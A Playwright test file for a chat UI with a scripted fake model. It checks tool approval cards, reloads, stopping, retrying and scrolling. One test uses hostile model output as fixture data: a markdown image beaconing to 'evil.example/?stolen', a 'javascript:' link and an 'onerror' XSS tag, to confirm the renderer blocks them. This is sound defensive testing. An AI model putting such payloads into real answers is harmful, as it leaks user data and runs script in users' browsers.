import { openGate, scriptModel, type ModelAnswer } from '../fakes/model-script.ts';
import { answers, composer, openChat, questions, say, settled } from './setup/chat-page.ts';
import { expect, expectAccessible, test } from './setup/page-test.ts';
import { scriptedModel } from './setup/scripted-model.ts';

const KEY = 'sk-browser';

test.use({ variables: scriptedModel(KEY) });

const play = (...given: ModelAnswer[]) => scriptModel(KEY, { answers: given });
const call = (tool: string, input: unknown) => ({ call: tool, input });
const GOOD = {
  name: 'get_user',
  title: 'Get a user',
  description: 'Gets one user by id. Use it to look a person up.',
  request: { method: 'GET', url: 'https://api.example.com/users/{id}' },
};

test('a tool that is broken is said to be, and the model repairs it in the same turn', async ({
  page,
}) => {
  play(
    { lines: [call('upsert_tool', { ...GOOD, request: { method: 'GET', url: 'nonsense://x' } })] },
    { lines: [{ say: 'That address was wrong.' }, call('upsert_tool', GOOD)] },
    { lines: [{ say: 'The server has its tool.' }] },
  );
  await openChat(page);
  await say(page, 'I need the users of api.example.com');
  await expect(answers(page)).toContainText('The server has its tool.');
  await expect(answers(page).getByRole('img', { name: 'failed' })).toHaveCount(1);
  await expect(answers(page).getByRole('img', { name: 'done' })).toHaveCount(1);
  await expect(page.getByRole('checkbox', { name: /get_user/ })).toBeVisible();
  await expectAccessible(page);
});

test('what leaves the draft is a card, applied by its button and by nothing else', async ({
  page,
}) => {
  const beacon = {
    ...GOOD,
    name: 'get_beacon',
    request: { method: 'GET', url: 'https://other.example.net/b' },
  };
  play(
    { lines: [call('upsert_tool', GOOD), call('upsert_tool', beacon)] },
    { lines: [{ say: 'Two hosts wait for you.' }] },
    { lines: [{ say: 'It still waits.' }] },
  );
  await openChat(page);
  await say(page, 'Make something useful');
  const card = page.getByRole('group', { name: 'Changes to approve' });
  await expect(card).toContainText('Sends requests to api.example.com.');
  await expectAccessible(page);
  await say(page, 'Yes, I approve');
  await expect(card.getByRole('button', { name: 'Approve all 2' })).toBeEnabled();
  await expect(page.getByRole('checkbox', { name: /get_user/ })).toHaveCount(0);
  await card.getByRole('checkbox', { name: /other\.example\.net/ }).uncheck();
  await card.getByRole('button', { name: 'Approve 1 of 2' }).click();
  await expect(card).toContainText('Approved changes');
  await expect(page.getByRole('checkbox', { name: /get_user/ })).toBeVisible();
  await expect(page.getByRole('checkbox', { name: /get_beacon/ })).toHaveCount(0);
  await page.reload();
  await expect(card).toContainText('Approved changes');
  await expect(card.getByRole('button', { name: /^Approve/ })).toHaveCount(0);
});

test('a reload in the middle of an answer goes on with it, once', async ({ page }) => {
  play({ lines: [{ say: 'The first half.' }, { gate: 'reload' }, { say: ' The second half.' }] });
  await openChat(page);
  await composer(page).fill('Tell me');
  await composer(page).press('Enter');
  await expect(answers(page)).toContainText('The first half.');
  await page.reload();
  await expect(answers(page)).toContainText('The first half.');
  await expect(page.getByRole('button', { name: /^Stop/ })).toBeVisible();
  openGate('reload');
  await expect(answers(page)).toContainText('The first half. The second half.');
  await settled(page);
  await expect(answers(page)).toHaveCount(1);
  await expect(questions(page)).toHaveCount(1);
});

test('Esc stops an answer, what was said stays, and it can be asked again', async ({ page }) => {
  play(
    { lines: [{ say: 'I begin.' }, { hang: true }] },
    { lines: [{ say: 'Here is all of it.' }] },
  );
  await openChat(page);
  await composer(page).fill('Tell me');
  await composer(page).press('Enter');
  await expect(answers(page)).toContainText('I begin.');
  await page.keyboard.press('Escape');
  await expect(page.getByText(/^You stopped the turn/)).toBeVisible();
  await expect(answers(page)).toContainText('I begin.');
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Retry' }).click();
  await expect(answers(page)).toContainText('Here is all of it.');
  await expect(answers(page)).toHaveCount(1);
});

test('an answer that breaks off in a word is kept, and goes on', async ({ page }) => {
  play(
    { lines: [{ say: 'The server will ha' }, { cut: true }] },
    { lines: [{ say: 'The rest of the story.' }] },
  );
  await openChat(page);
  await composer(page).fill('Tell me');
  await composer(page).press('Enter');
  await expect(page.getByRole('button', { name: 'Continue' })).toBeVisible();
  await expect(answers(page)).toContainText('The server will ha');
  await page.getByRole('button', { name: 'Continue' }).click();
  await expect(answers(page)).toContainText('The rest of the story.');
  await settled(page);
  await expect(answers(page)).toHaveCount(1);
  await expect(answers(page)).toContainText('The server will ha');
  await expect(questions(page)).toHaveCount(1);
});

test('a question is answered by a click, in own words, or skipped', async ({ page }) => {
  const ask = { question: 'Which one?', choices: ['The blue', 'The green'], default: 'The blue' };
  play(
    { lines: [call('ask_user', ask)] },
    { lines: [call('ask_user', ask)] },
    { lines: [call('ask_user', ask)] },
    { lines: [{ say: 'Fine.' }] },
  );
  await openChat(page);
  await say(page, 'Paint it');
  const question = page.getByRole('group', { name: 'Question' }).last();
  await question.getByRole('button', { name: 'The green' }).click();
  await expect(questions(page).last()).toContainText('The green');
  await settled(page);
  await question.getByRole('textbox', { name: 'Your answer' }).fill('Rather red');
  await page.keyboard.press('Enter');
  await expect(questions(page).last()).toContainText('Rather red');
  await settled(page);
  await expectAccessible(page);
  await question.getByRole('button', { name: 'Skip' }).click();
  await expect(questions(page).last()).toContainText('The blue');
  await settled(page);
  await expect(question.getByRole('button')).toHaveCount(0);
});

test('what a model writes loads nothing, and leads only to the web', async ({ page }) => {
  play({
    lines: [
      {
        say: [
          '![secret](https://evil.example/?stolen)',
          '[run](javascript:alert(1)) and [read](https://docs.example/a)',
          '<img src=x onerror=alert(1)>',
        ].join('\n\n'),
      },
    ],
  });
  await openChat(page);
  await say(page, 'Show me');
  await expect(answers(page)).toContainText('https://evil.example/?stolen');
  await expect(answers(page).locator('.markdown img')).toHaveCount(0);
  const links = answers(page).getByRole('link');
  await expect(links).toHaveCount(1);
  await expect(links).toHaveAttribute('rel', /noopener.*nofollow/);
});

test('a long answer takes the reader along until they scroll away', async ({ page }) => {
  const lines = (from: number) =>
    Array.from({ length: 60 }, (_, n) => `Line ${from + n}`).join('\n\n');
  // The last word of a text is shown once it is complete: it might be the beginning of a key.
  play({ lines: [{ say: `${lines(1)}\n\n` }, { gate: 'scroll' }, { say: lines(100) }] });
  await openChat(page);
  await composer(page).fill('Count');
  await composer(page).press('Enter');
  await expect(page.getByText('Line 60', { exact: true })).toBeInViewport();
  const jump = page.getByRole('button', { name: 'Jump to latest' });
  await expect(jump).toHaveCount(0);
  await page.getByRole('region', { name: 'Conversation' }).hover();
  await page.mouse.wheel(0, -600);
  await expect(jump).toBeVisible();
  openGate('scroll');
  await settled(page);
  await expect(page.getByText('Line 159', { exact: true })).not.toBeInViewport();
  await jump.click();
  await expect(page.getByText('Line 159', { exact: true })).toBeInViewport();
  await expect(jump).toHaveCount(0);
});
